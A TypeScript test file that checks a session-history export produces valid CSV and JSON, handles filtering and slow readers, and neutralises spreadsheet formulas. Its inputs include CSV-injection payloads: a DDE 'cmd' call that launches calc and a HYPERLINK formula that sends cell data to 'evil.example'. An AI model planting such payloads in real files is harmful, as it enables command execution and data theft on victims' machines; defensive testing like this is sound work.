/** The export of sessions: complete, and harmless in a spreadsheet. */
import { expect, test } from "bun:test";
import { csvLine, type Field } from "../../../dashboard/history/csv.ts";
import { openDatabase } from "../../../server/history/database.ts";
import { writeEntries } from "../../../server/history/write.ts";
import type { LogEntry } from "../../../shared/log.ts";
import { type Server, startServer } from "../../harness/server.ts";
import { until } from "../../harness/until.ts";
import { place } from "../../server/history/contents.ts";
import { request, urlOf } from "../request.ts";

/** Parses RFC 4180 strictly. @throws on anything else. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  while (field.lastIndex < text.length) {
    const at = field.lastIndex;
    const [, quoted, plain = "", end] = field.exec(text) ?? [];
    if (end === undefined)
      throw new Error(`no CSV at ${at}: ${JSON.stringify(text.slice(at, at + 40))}`);
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ",") continue;
    rows.push(row);
    row = [];
  }
  if (row.length > 0) throw new Error("the last line has no end");
  return rows;
}

test("any text survives the round trip, and no spreadsheet takes it for a formula", () => {
  const texts = [
    "plain",
    "",
    "a,b",
    'say "hi"',
    "two\nlines",
    "two\r\nlines",
    " edges ",
    "=1+2",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "한글, 그리고 \u202e",
    "a'b",
    '1,2"3\r\n=4',
  ];
  const rows: Field[][] = [texts, [1, -2, 3.5, null, "x"]];
  const read = parseCsv(rows.map(csvLine).join(""));
  expect(read[0]).toEqual(texts.map((text) => (/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text)));
  expect(read[0]?.filter((text) => /^[=+\-@\t\r\n]/.test(text))).toEqual([]);
  expect(read[1]).toEqual(["1", "-2", "3.5", "", "x"]);
});

/** Enough for several pages. */
const MANY = 2345;

/** A history file with hostile addresses, as another program may have written them. */
function fill(file: string): void {
  const entries: LogEntry[] = [];
  for (let i = 1; i <= MANY; i += 1) {
    const remoteAddress = i % 100 === 0 ? `=1+"${i}",\r\n` : `192.0.2.${i % 256}`;
    const client = { id: `a-${i}`, remoteAddress, remotePort: 1024 };
    const startedAt = Date.now() - i;
    const at = startedAt + 1000;
    const end = { reason: i % 2 ? "quit" : "crashed", exitCode: 0, signal: null } as const;
    const used = {
      ms: 1000,
      servingMs: 1.5,
      firstReplyMs: 2,
      requests: 1,
      bytesIn: 5,
      bytesOut: 20,
    };
    entries.push({
      seq: i * 2,
      at,
      event: { event: "accepted", startedAt, source: "=2", ...client },
    });
    entries.push({
      seq: i * 2 + 1,
      at,
      event: {
        event: "ended",
        ...client,
        pid: i,
        ...end,
        ...used,
        cpuMs: 1.25,
        maxResidentBytes: 9,
        leftovers: 0,
      },
    });
  }
  const db = openDatabase(file);
  writeEntries(db, "a", entries);
  db.close();
}

async function known(server: Server): Promise<void> {
  await until(
    async () => (await request(server, "api/history/totals")).text.includes(`"sessions":${MANY}`),
    "the file is read",
  );
}

test("an export has every session that matches, once, as CSV and as JSON", async () => {
  using at = place();
  fill(at.file);
  await using server = await startServer({ history: at.file });
  await known(server);
  for (const [query, count] of [
    ["", MANY],
    ["?reason=crashed", Math.floor(MANY / 2)],
    ["?address=nobody", 0],
  ] as const) {
    const csv = await request(server, `history/export.csv${query}`);
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(csv.headers.get("content-disposition")).toBe('attachment; filename="brood-history.csv"');
    const [names = [], ...rows] = parseCsv(csv.text);
    expect(names.slice(0, 4)).toEqual(["id", "pid", "remoteAddress", "remotePort"]);
    expect(rows.filter((row) => row.length !== names.length)).toEqual([]);

    const json = await request(server, `history/export.json${query}`);
    expect(json.headers.get("content-type")).toStartWith("application/json");
    const sessions = JSON.parse(json.text) as Record<string, string | number | null>[];
    expect(new Set(sessions.map(({ id }) => id)).size).toBe(count);
    expect(sessions).toHaveLength(count);
    // Both have the same, except for the apostrophes in front of formulas.
    const text = (value: string | number | null | undefined) =>
      typeof value === "string" ? value.replace(/^=/, "'=") : `${value ?? ""}`;
    expect(rows).toEqual(sessions.map((session) => names.map((name) => text(session[name]))));
  }
  expect((await request(server, "history/export.csv?reason=bored")).status).toBe(400);
});

test("slow readers hold up nobody, and their number is limited", async () => {
  using at = place();
  fill(at.file);
  await using server = await startServer({ history: at.file });
  await known(server);
  expect((await request(server, "history/export.csv", { method: "HEAD" })).status).toBe(405);
  const url = urlOf(server, "history/export.json");
  const control = new AbortController();
  const slow = await Promise.all(
    Array.from({ length: 4 }, () => fetch(url, { signal: control.signal, keepalive: false })),
  );
  const readers = slow.map(({ body }) => body?.getReader());
  await Promise.all(readers.map((reader) => reader?.read()));
  // The whole export fits into socket buffers, so these may have ended by now;
  // then there is room for more.
  const more = await request(server, "history/export.json");
  expect([200, 503]).toContain(more.status);
  control.abort();
  await until(
    async () => (await request(server, "history/export.json")).status === 200,
    "those that have gone make room",
  );
});
